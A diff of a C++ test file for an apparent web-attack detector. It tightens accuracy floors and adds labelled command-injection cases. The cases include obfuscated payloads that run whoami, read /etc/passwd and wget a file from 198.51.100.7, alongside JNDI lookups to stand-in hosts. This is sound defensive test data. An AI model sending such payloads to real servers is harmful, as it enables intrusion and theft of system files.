@@ -177,8 +177,8 @@ void CheckCorpus(const CorpusCase& c, const std::filesystem::path& folder) {
 // Floors just below what the sets reached when the rules were last changed (see
 // docs/rules.md): {all attacks, lowest category, highest benign share}, compact then broad.
 constexpr CorpusCase kOwnCorpora[] = {
-    {"train", "train_attacks.tsv", "train_benign.tsv", {79.0, 33.0, 0.0}, {87.0, 55.0, 0.25}},
-    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {78.0, 47.0, 0.5}, {86.5, 73.0, 1.0}},
+    {"train", "train_attacks.tsv", "train_benign.tsv", {80.0, 33.0, 0.0}, {87.5, 55.0, 0.25}},
+    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {78.5, 47.0, 0.5}, {86.5, 73.0, 1.0}},
     {"own", "attacks.tsv", "benign.tsv", {99.5, 99.0, 0.0}, {99.5, 99.0, 0.4}},
 };
 
@@ -280,6 +280,17 @@ constexpr SlotCase kSlotCases[] = {
     {4, false, "get /s?q=tom+%26+jerry http/1.1"},
     {4, true, "get /?cmd=%3a%28%29%7b+%3a%7c%3a%26+%7d%3b%3a http/1.1"},
     {4, false, "get /s?q=f%28x%29+%3d+%7bx%7d http/1.1"},
+    {4, true, "get /ping?host=127.0.0.1%3b%27wh%27oami http/1.1"},
+    {4, true, "get /ping?host=%7c%22w%22get%20http://198.51.100.7/x http/1.1"},
+    {4, true, "get /ping?host=;c\\at%20/e%3fc/p%3fss%3f%3f http/1.1"},
+    {4, true, "get /ping?host=%7b%2cwhoami%7d http/1.1"},
+    {4, true, "get /ping?host=;{cat,/etc/passwd} http/1.1"},
+    {4, true, "get /ping?host=%2f%3f%3f%3f%2fb%3f%3fh http/1.1"},
+    {4, true, "get /x.php?c=system(whoami) http/1.1"},
+    {4, true, "get /ping?host=;\\ls%20-la http/1.1"},
+    {4, false, "get /s?q=don%27t+stop+believin%27+rock+%27n%27+roll http/1.1"},
+    {4, false, "get /graphql?query=%7buser%7bid,name,email%7d%7d http/1.1"},
+    {4, false, "get /s?q=%27cat%27+videos+what%27s+new+in+python http/1.1"},
     // Slot 5: Java, OGNL, JNDI, expression and template injection; Weblogic and Tomcat.
     {5, true, "get / http/1.1\" 200 1 \"-\" \"${jndi:ldap://198.51.100.7/a}\""},
     {5, true, "get /?x=%24%7b%24%7blower:j%7dndi:rmi://evil.example/x%7d http/1.1"},
